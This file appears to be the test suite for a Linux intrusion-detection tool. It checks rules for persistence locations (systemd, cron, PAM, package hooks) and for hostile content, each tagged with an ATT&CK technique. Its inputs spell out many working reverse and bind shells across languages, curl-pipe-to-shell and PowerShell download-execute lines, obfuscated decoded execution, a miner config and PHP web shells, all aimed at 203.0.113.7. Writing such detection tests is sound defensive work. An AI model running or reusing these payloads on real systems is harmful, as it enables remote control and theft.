/**
 * Each persistence place and content family: a realistic true positive and a benign
 * near-miss, with the ATT&CK technique the finding carries.
 */
import { describe, expect, it } from 'vitest';
import { evaluateChange } from '../../src/findings/change-rules.js';
import {
  decodedExecution,
  downloadAndExecute,
  minerConfig,
  phpShellContent,
  reverseShell,
} from '../../src/findings/content-rules.js';
import {
  cronPersistence,
  eventHook,
  gitConfigCommand,
  kernelModule,
  packageHook,
  pamChange,
  startupPersistence,
  systemdPersistence,
  udevRule,
} from '../../src/findings/persistence-rules.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const file = fileMeta;
const added = addedFile;

describe('persistence places', () => {
  it.each([
    [systemdPersistence, '/usr/local/lib/systemd/system/dbus-helper.service', 'T1543.002'],
    [systemdPersistence, '/etc/systemd/system/nginx.service.d/override.conf', 'T1543.002'],
    [systemdPersistence, '/root/.config/systemd/user/agent.service', 'T1543.002'],
    [systemdPersistence, '/etc/systemd/system/backup.timer', 'T1053.006'],
    [systemdPersistence, '/usr/lib/systemd/system-generators/zz-gen', 'T1543.002'],
    [cronPersistence, '/etc/crontabs/root', 'T1053.003'],
    [cronPersistence, '/var/spool/cron/crontabs/www-data', 'T1053.003'],
    [cronPersistence, '/etc/cron.hourly/update', 'T1053.003'],
    [cronPersistence, '/var/spool/cron/atjobs/a0001', 'T1053.002'],
    [packageHook, '/etc/apt/apt.conf.d/99-update-notify', 'T1546.016'],
    [packageHook, '/etc/dpkg/dpkg.cfg.d/hook', 'T1546.016'],
    [packageHook, '/var/lib/dpkg/info/openssl.postinst', 'T1546.016'],
    [packageHook, '/etc/dnf/plugins/post.conf', 'T1546.016'],
    [pamChange, '/etc/pam.d/sshd', 'T1556.003'],
    [pamChange, '/lib/x86_64-linux-gnu/security/pam_unix.so', 'T1556.003'],
    [udevRule, '/etc/udev/rules.d/75-net.rules', 'T1546.017'],
    [startupPersistence, '/etc/xdg/autostart/update.desktop', 'T1547.013'],
    [startupPersistence, '/home/u/.config/autostart/x.desktop', 'T1547.013'],
    [startupPersistence, '/etc/update-motd.d/30-sysinfo', 'T1037'],
    [startupPersistence, '/etc/profile.d/locale.sh', 'T1546.004'],
    [startupPersistence, '/etc/rc.local', 'T1037.004'],
    [startupPersistence, '/etc/rc3.d/S01x', 'T1037.004'],
    [kernelModule, '/lib/modules/6.1.0/extra/diamorphine.ko', 'T1547.006'],
    [kernelModule, '/etc/modules-load.d/x.conf', 'T1547.006'],
    [eventHook, '/srv/app/.git/hooks/post-checkout', 'T1546'],
    [eventHook, '/etc/NetworkManager/dispatcher.d/99-x', 'T1546'],
    [eventHook, '/etc/polkit-1/rules.d/10-admin.rules', 'T1548'],
  ])('%o names %s as a persistence place (%s)', (rule, path, attack) => {
    const hit = rule(added(path));
    expect(hit?.attack).toBe(attack);
    expect(['high', 'critical']).toContain(hit?.severity);
  });

  it.each([
    [systemdPersistence, '/etc/systemd/journald.conf.bak'],
    [cronPersistence, '/etc/cronjob-notes'],
    [packageHook, '/etc/apt/sources.list.d/extra.list'],
    [pamChange, '/usr/lib/x86_64-linux-gnu/libpam.so.0'],
    [udevRule, '/etc/udev/hwdb.bin'],
    [startupPersistence, '/etc/profiles-backup'],
    [kernelModule, '/usr/share/doc/kmod/README'],
    [eventHook, '/srv/app/.git/objects/ab/cdef'],
  ])('%o leaves a near miss alone: %s', (rule, path) => {
    expect(rule(added(path))).toBeUndefined();
  });

  it('leaves deletions and folders to the other rules', () => {
    expect(cronPersistence({ path: '/etc/cron.d/x', kind: 'D', original: file() })).toBeUndefined();
    expect(
      systemdPersistence(
        added('/etc/systemd/system/x', undefined, { current: file({ type: 'directory' }) }),
      ),
    ).toBeUndefined();
  });

  it('flags git configuration that runs a program, not an ordinary one', () => {
    expect(
      gitConfigCommand(added('/root/.gitconfig', '[core]\n\tpager = sh -c "curl x|sh"\n'))?.attack,
    ).toBe('T1546');
    expect(
      gitConfigCommand(added('/srv/app/.git/config', '[core]\n\tfsmonitor = /tmp/.m\n')),
    ).toBeDefined();
    expect(
      gitConfigCommand(
        added('/root/.gitconfig', '[user]\n\tname = Ann\n[core]\n\tautocrlf = input\n'),
      ),
    ).toBeUndefined();
  });
});

describe('content: remote shells', () => {
  it.each([
    ['bash /dev/tcp', '* * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
    ['busybox nc -e', '*/5 * * * * nc 203.0.113.7 4444 -e /bin/sh'],
    ['nc -e first', 'nc -e /bin/sh 203.0.113.7 4444'],
    ['mkfifo', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f'],
    [
      'mkfifo from python',
      'os.mkfifo(p); os.system("cat " + p + " | sh -i 2>&1 | nc 203.0.113.7 4444 > " + p)',
    ],
    ['socat', 'socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr,setsid'],
    [
      'python',
      'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn("/bin/sh")',
    ],
    [
      'python written as a script, over lines',
      'import socket, subprocess, os\n\nip = "203.0.113.7"\nport = 4444\n\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((ip, port))\n\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\np = subprocess.call(["/bin/sh", "-i"])\n',
    ],
    [
      'python spawning a shell on a terminal after connecting, over lines',
      'import sys, socket, pty\ns = socket.socket()\ns.connect((sys.argv[1], int(sys.argv[2])))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/bash")\n',
    ],
    [
      'perl',
      'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
    ],
    [
      'php',
      '<?php $sock=fsockopen("203.0.113.7",4444);proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes); ?>',
    ],
    [
      'ruby',
      'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
    ],
  ])('%s is a remote shell, critical, with where it calls', (_, text) => {
    const hit = reverseShell(added('/etc/crontabs/root', text));
    expect(hit?.severity).toBe('critical');
    expect(hit?.attack).toMatch(/^T1059/);
  });

  // Each language's own way of wiring a connection to a shell, as the public generators
  // write them (written here for the test, not copied).
  it.each([
    ['netcat for Windows', 'nc.exe 203.0.113.7 4444 -e cmd.exe'],
    ['powercat', 'powercat -c 203.0.113.7 -p 4444 -e powershell'],
    ['mknod and netcat', 'mknod /tmp/bp p && nc 203.0.113.7 4444 0</tmp/bp | /bin/sh 1>/tmp/bp'],
    ['telnet around a shell', 'telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445'],
    [
      'curl telnet:// around a shell',
      "T='curl -Ns telnet://203.0.113.7:4444'; $T </dev/null 2>&1 | sh 2>&1 | $T >/dev/null",
    ],
    [
      "PHP's socket on descriptor 3",
      'php -r \'$c=fsockopen("203.0.113.7",4444);`sh -i <&3 >&3 2>&3`;\'',
    ],
    ['rustcat', 'rcat connect -s /bin/bash 203.0.113.7 4444'],
    [
      'zsh ztcp',
      "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    ],
    [
      'gawk',
      'gawk \'BEGIN { n = "/inet/tcp/0/203.0.113.7/4444"; while ((n |& getline c) > 0) { while ((c |& getline o) > 0) print o |& n; close(c) } }\'',
    ],
    [
      'Tcl',
      "echo 'set c [socket 203.0.113.7 4444]; while 1 { gets $c l; puts $c [exec sh -c $l]; flush $c }' | tclsh",
    ],
    [
      'Ruby spawning a shell on the socket',
      'ruby -rsocket -e \'spawn("/bin/sh", [:in, :out, :err] => TCPSocket.new("203.0.113.7", 4444))\'',
    ],
    [
      'Ruby binding a port',
      'ruby -rsocket -e \'srv = TCPServer.new(4444); c = srv.accept; [0, 1, 2].each { |fd| IO.new(fd).reopen(c) }; exec "/bin/sh -i"\'',
    ],
    [
      'Python in threads, feeding a shell',
      'import socket, subprocess, threading\n\ndef pump_in(conn, proc):\n    while True:\n        chunk = conn.recv(4096)\n        proc.stdin.write(chunk)\n        proc.stdin.flush()\n\nconn = socket.socket()\nconn.connect(("203.0.113.7", 4444))\nproc = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\nthreading.Thread(target=pump_in, args=(conn, proc)).start()\n',
    ],
    [
      'Python binding a port, subprocess under another name',
      'import socket as so, subprocess as sp\nsrv = so.socket(); srv.bind(("0.0.0.0", 4444)); srv.listen(1); c, a = srv.accept()\nwhile True: line = c.recv(1024).decode(); out = sp.check_output(line, shell=True); c.send(out)\n',
    ],
    [
      'Node.js',
      'const { spawn } = require("child_process");\nconst net = require("net");\nconst sh = spawn("/bin/sh", []);\nconst s = new net.Socket();\ns.connect(4444, "203.0.113.7", () => { s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); });\n',
    ],
    [
      'Node.js, net required inline',
      'node -e \'const sh = require("child_process").spawn("sh"); require("net").connect(4444, "203.0.113.7", function () { this.pipe(sh.stdin); sh.stdout.pipe(this) })\'',
    ],
    [
      'Java',
      'import java.net.Socket;\nclass R { public static void main(String[] a) throws Exception {\n  Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();\n  Socket s = new Socket("203.0.113.7", 4444);\n  var pin = p.getInputStream(); var sin = s.getInputStream(); var pout = p.getOutputStream(); var sout = s.getOutputStream();\n  while (!s.isClosed()) { while (pin.available() > 0) sout.write(pin.read()); while (sin.available() > 0) pout.write(sin.read()); sout.flush(); pout.flush(); Thread.sleep(20); }\n} }\n',
    ],
    [
      'Go',
      'package main\n\nimport (\n\t"net"\n\t"os/exec"\n)\n\nfunc main() {\n\tconn, _ := net.Dial("tcp", "203.0.113.7:4444")\n\tsh := exec.Command("/bin/sh")\n\tsh.Stdin, sh.Stdout, sh.Stderr = conn, conn, conn\n\tsh.Stdin = conn\n\tsh.Run()\n}\n',
    ],
    [
      'Dart',
      "import 'dart:io';\nvoid main() {\n  Socket.connect('203.0.113.7', 4444).then((sock) {\n    Process.start('/bin/sh', []).then((p) { sock.listen(p.stdin.add); p.stdout.listen(sock.add); });\n  });\n}\n",
    ],
    [
      'Lua',
      'local s = require("socket").tcp()\ns:connect("203.0.113.7", 4444)\nwhile true do\n  local line = s:receive()\n  local f = io.popen(line, "r")\n  s:send(f:read("*a"))\n  f:close()\nend\n',
    ],
    [
      'PowerShell',
      '$cl = New-Object System.Net.Sockets.TCPClient("203.0.113.7", 4444); $st = $cl.GetStream(); $buf = New-Object byte[] 65536; while (($n = $st.Read($buf, 0, $buf.Length)) -gt 0) { $cmd = [Text.Encoding]::ASCII.GetString($buf, 0, $n); $out = (iex $cmd 2>&1 | Out-String); $b = [Text.Encoding]::ASCII.GetBytes($out); $st.Write($b, 0, $b.Length) }',
    ],
    [
      'C',
      '#include <sys/socket.h>\n#include <arpa/inet.h>\n#include <unistd.h>\nint main(void) {\n  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4444) };\n  inet_pton(AF_INET, "203.0.113.7", &a.sin_addr);\n  int fd = socket(AF_INET, SOCK_STREAM, 0);\n  connect(fd, (struct sockaddr *)&a, sizeof a);\n  for (int i = 0; i < 3; i++) dup2(fd, i);\n  execl("/bin/sh", "sh", "-i", (char *)0);\n}\n',
    ],
    [
      'C for Windows',
      'SOCKET s = WSASocketA(AF_INET, SOCK_STREAM, IPPROTO_TCP, NULL, 0, 0);\nWSAConnect(s, (SOCKADDR *)&addr, sizeof addr, NULL, NULL, NULL, NULL);\nSTARTUPINFOA si = { sizeof si };\nsi.dwFlags = STARTF_USESTDHANDLES;\nsi.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)s;\nCreateProcessA(NULL, "cmd.exe", NULL, NULL, TRUE, 0, NULL, NULL, &si, &pi);\n',
    ],
    [
      'C#',
      'using (var client = new TcpClient("203.0.113.7", 4444))\nusing (var stream = client.GetStream())\nusing (var reader = new StreamReader(stream)) {\n  var p = new Process();\n  p.StartInfo.FileName = "/bin/sh";\n  p.StartInfo.UseShellExecute = false;\n  p.StartInfo.RedirectStandardInput = true;\n  p.StartInfo.RedirectStandardOutput = true;\n  p.Start();\n  while (true) p.StandardInput.WriteLine(reader.ReadLine());\n}\n',
    ],
  ])('a reverse or bind shell in %s is a remote shell', (_, text) => {
    const hit = reverseShell(added('/tmp/.x', text));
    expect(hit?.severity).toBe('critical');
    expect(hit?.reason).toMatch(/a remote shell for the attacker/);
  });

  it.each([
    [
      'a regex listing mobile browsers, pipes among its words',
      'if (ua.matches("(?i).*(android|bada\\/|blackberry|hiptop|sh|ip(hone|od)|telnet|kindle).*")) {}',
    ],
    [
      'Node.js piping a socket into a compressor',
      'const cp = require("child_process");\nconst net = require("net");\nconst gz = cp.spawn("gzip", ["-c"]);\nconst s = net.connect(9000, "backup.internal");\ns.pipe(gz.stdin);\ngz.stdout.pipe(fs.createWriteStream("/var/backups/in.gz"));\n',
    ],
    [
      'Go running git with its own input beside a dial',
      'conn, _ := net.Dial("tcp", "cache:6379")\ndefer conn.Close()\ncmd := exec.Command("git", "apply")\ncmd.Stdin = strings.NewReader(patch)\ncmd.Run()\n',
    ],
    [
      'Python writing what it receives to a compressor',
      'import socket, subprocess\ns = socket.socket(); s.connect(("logs", 514))\nz = subprocess.Popen(["gzip", "-c"], stdin=subprocess.PIPE)\nwhile True:\n    z.stdin.write(s.recv(4096))\n',
    ],
    [
      'Java copying a socket to a file beside a process run',
      'Socket s = new Socket("db", 5432);\nnew ProcessBuilder("pg_dump").start();\nOutputStream f = new FileOutputStream("/tmp/x");\nf.write(s.getInputStream().readAllBytes());\n',
    ],
  ])('leaves %s alone', (_, text) => {
    expect(reverseShell(added('/usr/local/bin/check', text)), text).toBeUndefined();
  });

  it('leaves scripts that only talk to the network alone', () => {
    for (const text of [
      'nc -z db 5432 && echo up',
      'exec 3<>/dev/null',
      'curl -fsS http://127.0.0.1:8080/health',
      'import socket\ns = socket.create_connection(("db", 5432))\nprint(s.recv(10))',
      'import socket, subprocess\ns = socket.socket()\ns.connect(("db", 5432))\ns.close()\nsubprocess.run(["pg_isready", "-h", "db"])\n',
      // A syntax highlighter's list of shell commands (prism.js), naming mkfifo and nc.
      'builtin:/\\b(?:kill|mkdir|mkfifo|mkfs|mknod|mv|nano|nc|netstat)(?=$|[)\\s;|&])/',
      // Port checks through bash's /dev/tcp: a compose health check, a provisioning wait.
      'test: ["CMD", "timeout", "5", "bash", "-c", "cat < /dev/null > /dev/tcp/127.0.0.1/11211"]',
      '(echo >/dev/tcp/localhost/80) &>/dev/null || { echo "web is down"; }',
      'until : > /dev/tcp/db/5432; do sleep 1; done',
    ])
      expect(reverseShell(added('/usr/local/bin/check', text)), text).toBeUndefined();
  });

  it('still reads a shell or data sent down /dev/tcp beside a port check', () => {
    for (const text of [
      '(echo >/dev/tcp/localhost/80) || true\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
      'sh -i < /dev/tcp/203.0.113.7/4444 > /dev/tcp/203.0.113.7/4445',
      'cat /etc/shadow > /dev/tcp/203.0.113.7/4444',
    ])
      expect(reverseShell(added('/usr/local/bin/check', text))?.severity, text).toBe('critical');
  });
});

describe('content: download and execute, decoded execution', () => {
  it('flags a download piped into a shell or run from a temp folder', () => {
    expect(
      downloadAndExecute(
        added('/etc/cron.d/x', '* * * * * root curl -fsSL http://203.0.113.7/x.sh | sh'),
      )?.attack,
    ).toBe('T1105');
    expect(
      downloadAndExecute(
        added('/etc/rc.local', 'wget -q http://x/k -O /tmp/k; chmod +x /tmp/k; /tmp/k'),
      ),
    ).toBeDefined();
  });
  it.each([
    ['piped into Python', 'curl -fsSL http://203.0.113.7/p.py | python3'],
    [
      'piped into Perl reading its program from its input',
      'wget -qO- http://203.0.113.7/p | perl -',
    ],
    ['piped into bash under sudo -E', 'curl -sL http://203.0.113.7/i.sh | sudo -E bash -'],
    ['a process substitution', 'bash <(curl -s http://203.0.113.7/i.sh)'],
    ['a command substitution', 'sh -c "$(wget -qO- http://203.0.113.7/i.sh)"'],
    ['eval of a download', 'eval "$(curl -fsS http://203.0.113.7/env)"'],
    ['tftp, then run', 'cd /tmp; tftp -g -r k 203.0.113.7; chmod +x k; /tmp/k'],
    [
      "Python's urlopen() run",
      'python3 -c "import urllib.request as u; exec(u.urlopen(\'http://203.0.113.7/s\').read())"',
    ],
    [
      "Python's urllib.request.urlopen() run",
      "exec(urllib.request.urlopen('http://203.0.113.7/s').read())",
    ],
    ['PHP evaluating a URL', 'php -r \'eval(file_get_contents("http://203.0.113.7/s"));\''],
    ["Perl's LWP get() evaluated", 'perl -MLWP::Simple -e \'eval get("http://203.0.113.7/s")\''],
    [
      'Ruby open-uri evaluated',
      'ruby -ropen-uri -e \'eval(URI.open("http://203.0.113.7/s").read)\'',
    ],
    [
      'PowerShell',
      'powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a\')"',
    ],
    ['PowerShell piped', 'irm https://203.0.113.7/a.ps1 | iex'],
  ])('flags a download %s', (_, text) => {
    expect(downloadAndExecute(added('/etc/cron.d/x', text))?.attack).toBe('T1105');
  });

  it.each([
    [
      'JSON pretty-printed by Python',
      'curl -s http://127.0.0.1:9200/_cluster/health | python3 -m json.tool',
    ],
    [
      'a field picked by a Python one-liner',
      'curl -s $API | python3 -c "import sys, json; print(json.load(sys.stdin)[\'v\'])"',
    ],
    [
      'a download saved and checked, not run',
      'curl -fsSLo /usr/local/share/ca.pem https://pki.example/ca.pem && sha256sum -c ca.sum',
    ],
    [
      'a URL read as data',
      "$feed = file_get_contents('https://example.org/feed.xml'); $xml = simplexml_load_string($feed);",
    ],
  ])('leaves %s alone', (_, text) => {
    expect(downloadAndExecute(added('/usr/local/bin/job', text))).toBeUndefined();
  });

  it('leaves documentation that shows an install one-liner alone', () => {
    const guide = 'Install pnpm first:\n\n    curl -fsSL https://get.pnpm.io/install.sh | sh -\n';
    expect(
      downloadAndExecute(added('/var/www/html/app/docs/installation.md', guide)),
    ).toBeUndefined();
    expect(downloadAndExecute(added('/var/www/html/app/install.sh', guide))).toBeDefined();
  });
  it.each([
    '/var/www/html/docker/php/Dockerfile',
    '/srv/app/Dockerfile.dev',
    '/srv/app/build/app.dockerfile',
    '/srv/app/Containerfile',
    '/srv/app/.gitlab-ci.yml',
    '/srv/app/.github/workflows/test.yml',
  ])('leaves a build recipe that pipes a setup script to bash alone: %s', (at) => {
    const recipe =
      'RUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash - \\\n && apt-get install -y nodejs\n';
    expect(downloadAndExecute(added(at, recipe))).toBeUndefined();
    // The same line where the container runs it.
    expect(downloadAndExecute(added('/srv/app/docker/entrypoint.sh', recipe))).toBeDefined();
    expect(downloadAndExecute(added('/srv/app/Dockerfile.sh', recipe))).toBeDefined();
  });
  it('leaves a download to a file alone', () => {
    expect(
      downloadAndExecute(
        added('/usr/local/bin/fetch', 'curl -fsSLo /srv/data/file.tar.gz https://example.org/f'),
      ),
    ).toBeUndefined();
  });
  it.each([
    ['shell', 'echo Y3VybCB4fHNo | base64 -d | bash'],
    ['python', 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'],
    ['perl', 'use MIME::Base64;eval(decode_base64("cHJpbnQgMQ=="));'],
    ['php', '<?php eval(gzinflate(base64_decode("S0lNzs8pSgUA"))); ?>'],
    // Invoke-Obfuscation's hidden Invoke-Expression, over codes XORed back into characters.
    [
      'powershell (MaximumDriveCount)',
      "&((vaRIable '*mDr*').NamE[3,11,2]-JOIN'')( [sTRInG]::Join( '', ([ChaR[]]( 57, 80, 104) |% { [ChaR] ($_-bxoR '0x1D') })))",
    ],
    [
      'powershell ($VerbosePreference)',
      ". ( ([sTrINg]$VERBOsEPrEFeRence)[1,3]+'X'-joiN'')( [STriNg]::joiN( '' , ([Char[]] (55,94)|FOReAch-OBjeCT {[Char] ($_-BXoR'0x13')})))",
    ],
    ['powershell ($PSHome)', "&( $pshOme[21]+$PShoMe[30]+'X') ('Write-Host 1')"],
    [
      'powershell (base64)',
      'IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("V3JpdGUtSG9zdCAx")))',
    ],
  ])('flags %s running decoded code', (_, text) => {
    expect(decodedExecution(added('/var/tmp/.x', text))?.attack).toBe('T1140');
  });
  it('leaves decoding that runs nothing alone', () => {
    expect(
      decodedExecution(added('/app/a.py', 'data = base64.b64decode(blob)\nprint(len(data))')),
    ).toBeUndefined();
    expect(decodedExecution(added('/app/a.sh', 'base64 -d key.b64 > key.pem'))).toBeUndefined();
    // PowerShell decoding a certificate, and naming $PSHome to find a module.
    const ps = `$cert = [Convert]::FromBase64String($b64)\nImport-Module (Join-Path $PSHome 'Modules\\X')\nWrite-Host $VerbosePreference\nif ($VerbosePreference.ToString() -eq 'Continue') { $v = [String]$VerbosePreference }`;
    expect(decodedExecution(added('/app/setup.ps1', ps))).toBeUndefined();
  });
});

describe('content: mining', () => {
  const wallet = '4' + 'A'.repeat(10) + '1'.repeat(84);
  it('flags a pool, a wallet and xmrig settings', () => {
    const hit = minerConfig(
      added(
        '/tmp/.c/config.json',
        `{"donate-level": 1, "pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333", "user": "${wallet}"}]}`,
      ),
    );
    expect(hit).toMatchObject({ severity: 'critical', attack: 'T1496' });
  });
  it('leaves ordinary configuration alone', () => {
    expect(
      minerConfig(added('/etc/app.json', '{"pool": {"max": 10}, "url": "https://example.org"}')),
    ).toBeUndefined();
  });
});

describe('content: PHP web shell families', () => {
  it.each([
    ['input called', '<?php $_GET["f"]($_GET["a"]); ?>'],
    ['variable function', '<?php $f = "sys"."tem"; $f($_POST["c"]); ?>'],
    ['preg_replace /e', '<?php preg_replace("/.*/e", $_POST["c"], ""); ?>'],
    ['create_function', '<?php $f = create_function("", $_REQUEST["c"]); $f(); ?>'],
    ['chr()', '<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f("id"); ?>'],
    ['assert', '<?php @assert($_POST["x"]); ?>'],
    ['callback', '<?php array_map($_GET["f"], array($_GET["a"])); ?>'],
    ['sort callback', '<?php $a = array($_POST["a"]); usort($a, $_POST["f"]); ?>'],
    ['input into a command', '<?php echo shell_exec($_GET["cmd"]); ?>'],
  ])('%s is a web shell, critical, wherever it is', (_, text) => {
    const top = evaluateChange(added('/usr/share/doc/x.php', text))[0];
    expect(['php-shell', 'web-shell']).toContain(top?.rule);
    expect(top).toMatchObject({ severity: 'critical', attack: 'T1505.003' });
  });
  it('leaves PHP libraries that call exec sinks or eval without request input alone', () => {
    for (const text of [
      '<?php function decode($s) { return eval("return $s;"); } ?>',
      '<?php $mail = @popen($sendmail, "w"); ?>',
      // Docblocks quote request arrays and backticks; a constant command runs nothing chosen.
      '<?php\n/**\n * Adds magic quotes to `$_GET`, `$_POST` and `$_REQUEST`.\n */\n$v = (string) @shell_exec(\'git log -1\'); echo $_GET["p"];',
      // A table of handlers looked up by input is the server\'s choice.
      '<?php $importer = $_GET["import"]; call_user_func($importers[$importer][2]); ?>',
      // Casts are not calls.
      '<?php $ids = (array) ($_POST["ids"] ?? []); $n = (int) ($_GET["n"] ?? 0); ?>',
    ])
      expect(
        evaluateChange(added('/var/www/html/wp-admin/x.php', text))[0]!.severity,
        text,
      ).not.toMatch(/high|critical/);
  });
  it.each([
    [
      'the request filtered by a callback it chose',
      '<?php array_filter($_REQUEST, base64_decode($_COOKIE["e"])); ?>',
    ],
    ['the request sorted by a variable', '<?php usort($_GET["a"], $f); ?>'],
    ['code spelt with chr()', '<?php eval(chr(115).chr(121).chr(115).chr(40).chr(36).chr(95)); ?>'],
  ])('names %s by family', (_, text) => {
    expect(phpShellContent(added('/var/www/html/x.php', text))?.severity).toBe('critical');
  });
  it('leaves PHP helpers alone by family, too', () => {
    for (const text of [
      // class-json.php style: eval on its own decoded data
      '<?php function decode($s) { return eval("return $s;"); } ?>',
      // PHPMailer style
      '<?php $mail = @popen($sendmail, "w"); ?>',
      // random_compat style
      '<?php $buf = system("head -c 32 /dev/urandom"); ?>',
      '<?php echo htmlspecialchars($_GET["q"]); ?>',
      // An array from the request filtered, and a table of accented bytes spelt with chr().
      '<?php $_POST["ids"] = array_filter($_POST["ids"]); usort($_GET["rows"], "cmp"); ?>',
      '<?php $m = array_filter(array_map("intval", $_POST["moderator_list"])); ?>',
      '<?php $in = chr(192).chr(193).chr(194).chr(195).chr(196).chr(197); ?>',
      // A retired `/e` call kept in a comment (e107's templates) runs nothing.
      '<?php\n$text = $tp->parseTemplate($T, true); // preg_replace("/\\{(.*?)\\}/e", \'$\\1\', $T);\n',
    ])
      expect(phpShellContent(added('/var/www/html/wp-includes/x.php', text)), text).toBeUndefined();
  });
});

describe('evaluateChange', () => {
  it('ranks the busybox crontab reverse shell critical for its content and high for its place, both tagged', () => {
    const findings = evaluateChange(
      added('/etc/crontabs/root', '*/5 * * * * nc 203.0.113.7 4444 -e /bin/sh\n'),
    );
    expect(findings.map((f) => [f.rule, f.severity, f.attack])).toEqual(
      expect.arrayContaining([
        ['cron', 'high', 'T1053.003'],
        ['reverse-shell', 'critical', 'T1059.004'],
      ]),
    );
  });
  it('ranks an APT hook high with its reason, and a library calling popen in a web root only medium', () => {
    const apt = evaluateChange(
      added(
        '/etc/apt/apt.conf.d/99-x',
        'APT::Update::Pre-Invoke {"/usr/bin/python3 /var/tmp/.u &";};\n',
      ),
    );
    expect(apt.find((f) => f.rule === 'package-hook')).toMatchObject({
      severity: 'high',
      attack: 'T1546.016',
    });
    const lib = evaluateChange(
      added(
        '/var/www/html/wp-includes/PHPMailer/PHPMailer.php',
        '<?php $mail = @popen($sendmail, "w"); ?>',
      ),
    );
    expect(lib.find((f) => f.rule === 'web-shell')?.severity).toBe('medium');
  });
  it('tags the older rules with their technique', () => {
    const shell = evaluateChange(added('/var/www/x.php', '<?php eval($_POST["c"]); ?>'));
    expect(shell.find((f) => f.rule === 'web-shell')?.attack).toBe('T1505.003');
  });
});
